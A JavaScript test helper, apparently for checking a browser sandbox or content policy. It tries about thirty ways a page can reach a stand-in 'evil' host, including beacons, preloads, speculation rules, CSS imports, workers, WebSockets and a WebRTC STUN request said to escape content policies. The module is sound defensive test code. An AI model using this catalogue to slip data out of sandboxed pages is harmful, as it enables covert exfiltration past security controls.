// Every way out that a page has without leaving. Reaching the foreign server is judged there.
const quietly = (action) => {
  try {
    const result = action();
    return result instanceof Promise ? result.catch(() => {}) : Promise.resolve(result);
  } catch {
    return Promise.resolve();
  }
};
const element = (tag, attributes) => {
  const made = Object.assign(document.createElement(tag), attributes);
  document.body.append(made);
  return made;
};
const pause = (millis) => new Promise((resolve) => setTimeout(resolve, millis));

// Asks a STUN server for this machine's address: a datagram that no content policy sees.
export const peerConnection = (port) => `
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;

export const leaks = async (evil, port) => {
  const socket = evil.replace('http:', 'ws:');
  const code = `fetch('${evil}/worker').catch(() => {}); try { importScripts('${evil}/import') } catch {}`;
  const inner = (name) => `<script>fetch('${evil}/${name}'); new Image().src = '${evil}/${name}-image';<\/script>`;
  await Promise.all([
    quietly(() => fetch(`${evil}/fetch`, { mode: 'no-cors' })),
    quietly(() => navigator.sendBeacon(`${evil}/beacon`, 'x')),
    quietly(() => element('img', { src: `${evil}/image` })),
    quietly(() => element('script', { src: `${evil}/script` })),
    quietly(() => element('link', { rel: 'stylesheet', href: `${evil}/style` })),
    quietly(() => element('link', { rel: 'prefetch', href: `${evil}/prefetch` })),
    quietly(() => element('link', { rel: 'preload', as: 'image', href: `${evil}/preload` })),
    quietly(() => element('link', { rel: 'modulepreload', href: `${evil}/modulepreload` })),
    quietly(() => element('link', { rel: 'preconnect', href: `http://127.0.0.1:${port}` })),
    quietly(() => element('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [`${evil}/speculation`], eagerness: 'immediate' }], prerender: [{ urls: [`${evil}/prerender`], eagerness: 'immediate' }] }) })),
    quietly(() => element('link', { rel: 'manifest', href: `${evil}/manifest` })),
    quietly(() => element('link', { rel: 'icon', href: `${evil}/icon` })),
    quietly(() => element('iframe', { src: `${evil}/iframe` })),
    quietly(() => element('iframe', { srcdoc: inner('srcdoc') })),
    quietly(() => element('object', { data: `${evil}/object` })),
    quietly(() => element('embed', { src: `${evil}/embed` })),
    quietly(() => element('video', { src: `${evil}/video`, poster: `${evil}/poster` })),
    quietly(() => element('audio', { src: `${evil}/audio` })),
    quietly(() => element('div', { style: `background: url(${evil}/background)` })),
    quietly(() => element('style', { textContent: `@import url(${evil}/css-import); @font-face { font-family: f; src: url(${evil}/font) } body { font-family: f }` })),
    quietly(() => element('a', { href: '#x', ping: `${evil}/ping` }).click()),
    quietly(() => element('base', { href: `${evil}/base/` })),
    quietly(() => element('img', { src: 'through-base' })),
    quietly(() => new EventSource(`${evil}/events`)),
    quietly(() => new WebSocket(`${socket}/socket`)),
    quietly(() => import(`${evil}/module`)),
    quietly(() => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))),
    quietly(() => new Worker(`data:text/javascript,${encodeURIComponent(code)}`)),
    quietly(() => { const xhr = new XMLHttpRequest(); xhr.open('GET', `${evil}/xhr`); xhr.send(); }),
    quietly(() => { const svg = element('div', {}); svg.innerHTML = `<svg><image href="${evil}/svg-image"/></svg>`; }),
  ]);
  await pause(400);
  return 'tried';
};
